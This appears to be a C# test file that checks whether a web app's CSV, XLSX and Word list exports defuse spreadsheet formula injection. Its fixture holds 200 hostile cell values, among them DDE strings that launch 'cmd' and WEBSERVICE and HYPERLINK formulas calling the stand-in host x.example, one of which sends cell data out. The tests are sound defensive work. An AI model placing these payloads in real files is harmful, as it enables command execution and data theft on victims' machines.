using DocumentFormat.OpenXml;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Validation;
using DocumentFormat.OpenXml.Wordprocessing;
using Systemfel.Web.Features.Lists;
using Systemfel.Workflows.Documents;

namespace Systemfel.Web.Tests.Lists;

/// <summary>Two hundred texts that a spreadsheet program may take for a formula, through both formats of every list.</summary>
public class InjectionTests
{
    private static readonly string[] Starts = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "−"];

    private static readonly string[] Rests =
    [
        "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.example\";\"klicka\")", "SUM(A1:A9);B2\r\nny rad", "DDE(\"cmd\";\"/C calc\")", "A1", "IMPORTXML(\"http://x.example\")",
        "WEBSERVICE(\"http://x.example/\"&A2)", "1;2", "\"citat\"", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "0", "INDIRECT(\"R1C1\")", "'", " 1",
    ];

    private static readonly string[] Hidden = [" =1+1", "\u200B@SUM(1)", "\u00A0=1", "\uFEFF=1+1", "\u2060+1", "  \t=1", " −1", "\u200B\u200B＝1"];

    public static IReadOnlyList<string> All { get; } = [.. Starts.SelectMany(s => Rests.Select(r => s + r)), .. Hidden];

    private static readonly ListOf<string> List = new("test", "test", "Test", [new("Före", _ => 1), new("Text", t => t), new("Efter", t => t)]);

    [Fact]
    public void Payloads_AreTwoHundred() => Assert.Equal(200, All.Distinct().Count());

    [Fact]
    public async Task Csv_OfTextThatBeginsLikeAFormula_IsTextAndKeepsEveryWord()
    {
        var rows = CsvText.Read(await WriteAsync(ListFormat.Csv, All));

        Assert.Equal(All.Select(p => "'" + p), rows.Skip(1).Select(r => r[1]));
        Assert.Equal(All.Select(p => "'" + p), rows.Skip(1).Select(r => r[2]));
    }

    [Fact]
    public async Task Xlsx_OfTextThatBeginsLikeAFormula_HasNoFormulaAndTheVeryText()
    {
        var book = new Workbook(await WriteAsync(ListFormat.Xlsx, All));

        Assert.Equal(0, book.Formulas);
        Assert.Empty(book.Faults);
        Assert.Equal(All.Select(Lines), book.Rows.Skip(1).Select(r => r[1]).Select(Lines));
        Assert.All(book.Cells.Where(c => c.Column == "B"), c => Assert.Equal("inlineStr", c.Type));
    }

    [Fact]
    public void Docx_OfTextThatBeginsLikeAFormula_HasNoFieldAndNoFault()
    {
        var file = WordWriter.Write(new WordDocument("Prov", "PO", DateTimeOffset.UnixEpoch,
            [.. All.Select(p => new WordParagraph(p)), new WordList(All), new WordTable("Prov", ["Text"], [.. All.Select(p => (IReadOnlyList<string>)[p])])]));

        using var document = WordprocessingDocument.Open(new MemoryStream(file), isEditable: false);
        var body = document.MainDocumentPart!.Document!.Body!;
        Assert.DoesNotContain(body.Descendants(), e => e is FieldCode or SimpleField or FieldChar);
        Assert.Empty(new OpenXmlValidator(FileFormatVersions.Office2019).Validate(document));
    }

    [Theory]
    [InlineData("Svårt att nå handläggare")]
    [InlineData("2026-11-30")]
    [InlineData("\"citat\"; semikolon\noch ny rad")]
    public async Task Csv_OfPlainText_LeavesItAsItIs(string text) =>
        Assert.Equal(text, CsvText.Read(await WriteAsync(ListFormat.Csv, [text]))[1][1]);

    /// <summary>XML reads each kind of line break as the same one.</summary>
    private static string Lines(string text) => text.ReplaceLineEndings("\n");

    private static async Task<byte[]> WriteAsync(ListFormat format, IEnumerable<string> rows)
    {
        using var file = new MemoryStream();
        await List.WriteAsync(format, rows.ToAsyncEnumerable(), file, CancellationToken.None);
        return file.ToArray();
    }
}
